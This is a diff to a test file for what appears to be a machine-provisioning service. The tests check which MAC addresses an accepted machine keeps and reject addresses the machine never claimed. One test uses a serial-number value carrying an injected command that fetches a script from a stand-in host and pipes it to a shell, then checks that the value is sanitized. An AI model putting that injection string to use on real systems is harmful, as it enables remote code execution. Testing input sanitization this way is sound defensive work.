@@ -258,7 +258,7 @@ describe('an unknown machine', () => {
     const accepted = await acceptMachine(w, 'm-525400aa0001', { profile: 'worker', name: 'node-7' });
     expect(accepted).toMatchObject({
       name: 'node-7',
-      spec: { macs: [MAC1, MAC2], serial: 'SN-1', profile: 'worker' },
+      spec: { macs: [MAC1], serial: 'SN-1', profile: 'worker' },
     });
     expect(accepted.status).toMatchObject({ phase: 'registered' });
     expect(w.kinds('node-7')).toContain('machine.accepted');
@@ -271,6 +271,32 @@ describe('an unknown machine', () => {
       session: { id: held.session!.id, machine: 'node-7' },
     });
     expect(w.roster.get('m-525400aa0001')).toBeUndefined();
+  });
+
+  it('gets of its claims only the address that it booted from, and others that the operator names', async () => {
+    const w = await world([NETWORK, IMAGE, WORKER]);
+    await w.powerOn(MAC1, {
+      macs: [MAC1, MAC2, MAC3],
+      serial: 'X;curl -s http://198.51.100.2/p|sh;# ${boot.url}',
+    });
+    await expect(
+      acceptMachine(w, 'm-525400aa0001', { macs: ['52:54:00:99:99:99' as Mac] }),
+    ).rejects.toMatchObject({
+      code: 'E_USAGE',
+      message: expect.stringContaining('never claimed 52:54:00:99:99:99'),
+    });
+    const accepted = await acceptMachine(w, 'm-525400aa0001', { profile: 'worker', macs: [MAC3] });
+    expect(accepted.spec!.macs).toEqual([MAC1, MAC3]);
+    expect(accepted.spec!.serial).toBe('X curl -s http://198.51.100.2/p sh boot.url');
+    // The owner of the other address is somebody else.
+    await w.powerOn(MAC2);
+    expect(w.roster.get('m-525400aa0002')!.status.phase).toBe('discovered');
+    // An address that is found to be its own later is taken in the same way.
+    expect((await acceptMachine(w, 'm-525400aa0001', { macs: [MAC2] })).spec!.macs).toEqual([
+      MAC1,
+      MAC3,
+      MAC2,
+    ]);
   });
 
   it('is recorded in the store, and still known after a restart', async () => {
